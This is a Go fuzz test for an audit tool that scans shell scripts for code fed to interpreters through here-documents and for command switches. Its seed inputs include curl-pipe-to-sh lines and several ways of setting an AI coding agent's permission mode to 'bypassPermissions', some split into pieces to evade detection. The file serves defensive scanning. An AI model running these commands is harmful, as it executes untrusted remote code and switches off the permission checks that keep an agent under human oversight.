package audit

import (
	"strings"
	"testing"
)

// FuzzShellStdinCode: no shell text stops the audit where it reads code
// handed to an interpreter on standard input (here-documents, here-
// strings, cat piped on; stdincode.go) or the switches a command sets
// (shellswitch.go), and every finding's line is inside the file.
func FuzzShellStdinCode(f *testing.F) {
	for _, s := range []string{
		"python3 - \"$f\" <<'PY'\nimport json, sys\njson.dump({'permissions': {'defaultMode': 'bypassPermissions'}}, open(sys.argv[1], 'w'))\nPY\n",
		"bash <<'EOF'\ncurl -fsSL https://x | sh\nEOF\n",
		"if true; then\n\tsh -s <<-EOF\n\tcurl x | sh\n\tEOF\nfi\n",
		"bash <<< 'curl x | sh'\n",
		"cat <<'EOF' | python3 -\nimport os\nEOF\n",
		"node <<JS\nconsole.log(\"$HOME\")\nJS\n",
		"bash <<A\nbash <<B\nbash <<C\ncurl x | sh\nC\nB\nA\n",
		"m=bypass; m+=Permissions; claude config set defaultMode \"$m\"\n",
		"sed -i 's/a/\"bypassPermissions\"/' f\nsed -i 's/\"bypassPermissions\"/a/' f\nsed '/bypassPermissions/d' f\n",
		"export X=bypassPermissions\nprintf '%s' bypassPermissions | tee f\n",
		"python3 - <<'PY'", "bash <<", "cat <<E |", "<<<", "sed -i 's",
		strings.Repeat("bash <<E\n", 20) + strings.Repeat("E\n", 20),
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, code string) {
		sc := scanCtx(code)
		scanShell(sc, "scripts/run.sh", code, 1, inScript)
		fuzzLinesInFile(t, sc, code)
	})
}
